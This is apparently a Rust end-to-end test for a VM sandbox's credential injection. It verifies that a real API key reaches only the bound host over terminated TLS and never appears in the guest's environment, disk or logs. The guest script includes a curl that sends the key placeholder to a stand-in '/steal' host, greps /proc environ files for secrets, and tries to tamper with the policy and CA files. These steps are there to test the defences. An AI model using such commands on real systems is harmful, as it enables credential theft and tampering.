//! Host side: end-to-end test of credential injection — a real guest's
//! curl fetches over HTTPS from a TLS server on the host's loopback (a
//! name mapped with `--resolve`, its certificate from a test root given
//! with `--upstream-ca`), through netstack, which terminates the guest's
//! TLS with the installation's CA (trusted in the guest by guest-init) and
//! puts the real key in place of the placeholder the guest holds. The
//! server records the header it got: the real key arrives; the guest's
//! environment, its disk, the console log and the audit log never hold
//! it; the placeholder sent to another host is refused. One boot.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sbx_tests::{file_contains, text, Sbx};

/// A TLS server on 127.0.0.1 for `names`, its certificate signed by a
/// fresh test root (returned, PEM). Answers "key=ok" when the request's
/// x-api-key is `want`, "key=wrong" otherwise, and records every value it
/// got. Stops by itself after `for_how_long`.
fn upstream(names: &[&str], want: String, for_how_long: Duration) -> (u16, String, Arc<Mutex<Vec<String>>>) {
    let ca = sbx_tests::tls::TestCa::new(names);
    let (config, root_pem) = (ca.server, ca.root_pem);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        let deadline = Instant::now() + for_how_long;
        while Instant::now() < deadline {
            let Ok((tcp, _)) = listener.accept() else {
                std::thread::sleep(Duration::from_millis(20));
                continue;
            };
            tcp.set_nonblocking(false).unwrap();
            tcp.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
            let conn = rustls::ServerConnection::new(config.clone()).unwrap();
            let mut tls = BufReader::new(rustls::StreamOwned::new(conn, tcp));
            let mut got = String::from("(none)");
            let mut line = String::new();
            while tls.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("x-api-key:") {
                    // Keep the original case of the value.
                    got = line[line.len() - v.len()..].trim().to_string();
                }
                line.clear();
            }
            let body = if got == want { "key=ok" } else { "key=wrong" };
            log.lock().unwrap().push(got);
            let w = tls.get_mut();
            let _ = write!(w, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
            let _ = w.flush();
            w.conn.send_close_notify();
            let _ = w.flush();
        }
    });
    (port, root_pem, seen)
}

#[test]
#[ignore = "boots a guest: needs /dev/kvm, `cargo xtask kernel`, `cargo xtask image` and a release sbx; run by `cargo xtask test`"]
fn the_real_key_reaches_the_bound_host_and_never_the_guest() {
    let sbx = Sbx::new();
    let config = tempfile::tempdir().unwrap();
    let secret = format!("sk-e2e-{:x}{:x}", std::process::id(), Instant::now().elapsed().as_nanos() ^ 0x5eed_cafe);
    let (port, root_pem, seen) =
        upstream(&["api.creds.test", "other.creds.test"], secret.clone(), Duration::from_secs(900));
    let root_file = sbx.work.path().join("upstream-root.pem");
    std::fs::write(&root_file, &root_pem).unwrap();
    let policy = sbx.work.path().join("policy.toml");
    std::fs::write(
        &policy,
        "version = 1\nhttps = \"terminate\"\n\
         [[rule]]\nallow = \"api.creds.test\"\n[[rule]]\nallow = \"other.creds.test\"\n\
         [[credential]]\nname = \"testkey\"\nhosts = [\"api.creds.test\"]\nheader = \"x-api-key\"\nenv = \"TEST_API_KEY\"\n",
    )
    .unwrap();

    // The secret, from standard input, into sbx's (private) config folder.
    let mut set = sbx
        .cmd()
        .env("SBX_CONFIG", config.path())
        .args(["secret", "set", "testkey"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    set.stdin.take().unwrap().write_all(format!("{secret}\n").as_bytes()).unwrap();
    let out = set.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ls =
        sbx.cmd().env("SBX_CONFIG", config.path()).args(["secret", "ls", "--policy"]).arg(&policy).output().unwrap();
    let listed = text(&ls.stdout);
    assert!(listed.starts_with("testkey\tglobal\tstored\tnever expires\t"), "{listed}");
    assert!(listed.contains("\tapi.creds.test in x-api-key"), "{listed}");
    assert!(!listed.contains(&secret));

    let script = "
        echo \"placeholder=$TEST_API_KEY\"
        echo \"bound=$(curl -sS -H \"x-api-key: $TEST_API_KEY\" https://api.creds.test/check 2>&1)\"
        echo \"other=$(curl -sS -H \"x-api-key: $TEST_API_KEY\" https://other.creds.test/steal 2>&1)\"
        echo \"other_plain=$(curl -sS https://other.creds.test/plain 2>&1)\"
        cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c sk-e2e- | sed 's/^/env_hits=/'
        grep -rl sk-e2e- /etc /home /root /tmp /run 2>/dev/null | wc -l | sed 's/^/file_hits=/'
        # What the next `sbx run` reads from the workspace cannot be changed.
        echo '[[rule]]' >> policy.toml && echo policy_appended
        true > upstream-root.pem && echo ca_truncated
        rm -f policy.toml && echo policy_removed
        mv policy.toml p2.toml && echo policy_moved
        mkdir -p d && mv upstream-root.pem d/ && echo ca_moved
        sync
        exit 0
    ";
    let map = |name: &str| format!("{name}:443:127.0.0.1:{port}");
    let out = sbx
        .cmd()
        .env("SBX_CONFIG", config.path())
        .args(["run", "shell", "--name", "creds", "--timeout", "600", "--disk-size", "1", "--policy"])
        .arg(&policy)
        .arg("--upstream-ca")
        .arg(&root_file)
        .args(["--resolve", &map("api.creds.test"), "--resolve", &map("other.creds.test")])
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    eprintln!("stdout:\n{stdout}\nstderr:\n{}", text(&out.stderr));
    assert_eq!(out.status.code(), Some(0));
    assert!(stdout.contains("placeholder=sbx-placeholder-testkey-"), "the guest holds a placeholder");
    assert!(stdout.contains("bound=key=ok\n"), "the bound host got the real key over TLS the guest verified");
    // The one deny signal: a 403 with a JSON body (netstack::conn).
    assert!(
        stdout.contains("other={")
            && stdout.contains("\"error\":\"sbx_denied\"")
            && stdout.contains("request refused")
            && stdout.contains("leak attempt"),
        "refused elsewhere"
    );
    assert!(stdout.contains("other_plain=key=wrong\n"), "another allowed host works, without any key");
    assert!(stdout.contains("env_hits=0\n") && stdout.contains("file_hits=0\n"), "not in the guest's env or files");
    assert!(!stdout.contains(&secret) && !text(&out.stderr).contains(&secret));
    for done in ["policy_appended", "ca_truncated", "policy_removed", "policy_moved", "ca_moved"] {
        assert!(!stdout.contains(done), "the guest changed a file sbx reads at start: {done}");
    }
    assert!(std::fs::read_to_string(&policy).unwrap().ends_with("env = \"TEST_API_KEY\"\n"), "policy unchanged");
    assert_eq!(std::fs::read_to_string(&root_file).unwrap(), root_pem, "CA file unchanged");
    let got = seen.lock().unwrap().clone();
    assert_eq!(got, vec![secret.clone(), "(none)".to_string()], "the upstream saw the key once, from the bound host");

    // The sandbox's disk, console log and audit log, searched on the host.
    let dir = sbx.home.path().join("sandboxes/creds");
    for file in ["disk.img", "console.log", "audit.log"] {
        assert!(!file_contains(&dir.join(file), &secret), "the secret is in {file}");
    }
    let log = sbx.cmd().args(["log", "creds", "--audit"]).output().unwrap();
    assert!(log.status.success(), "{}", text(&log.stderr));
    let log = text(&log.stdout);
    let lines: Vec<serde_json::Value> = log.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let has = |f: &dyn Fn(&serde_json::Value) -> bool| lines.iter().any(f);
    assert!(
        has(&|v| v["event"] == "http"
            && v["host"] == "api.creds.test"
            && v["credential"] == "testkey"
            && v["status"] == 200),
        "{log}"
    );
    assert!(has(&|v| v["event"] == "http" && v["host"] == "other.creds.test" && v["leak"] == "testkey"), "{log}");
    assert!(has(&|v| v["event"] == "tls" && v["terminated"] == true && v["alpn"] == "http/1.1"), "{log}");
}
